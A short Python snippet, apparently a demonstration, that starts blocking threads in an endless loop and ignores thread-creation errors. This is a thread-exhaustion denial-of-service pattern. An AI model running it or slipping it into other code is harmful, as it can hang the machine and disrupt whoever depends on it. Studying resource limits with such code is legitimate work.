"""Starts threads for ever."""

wait = threading.Event()
while True:
    try:
        threading.Thread(target=wait.wait).start()
    except RuntimeError:
        pass
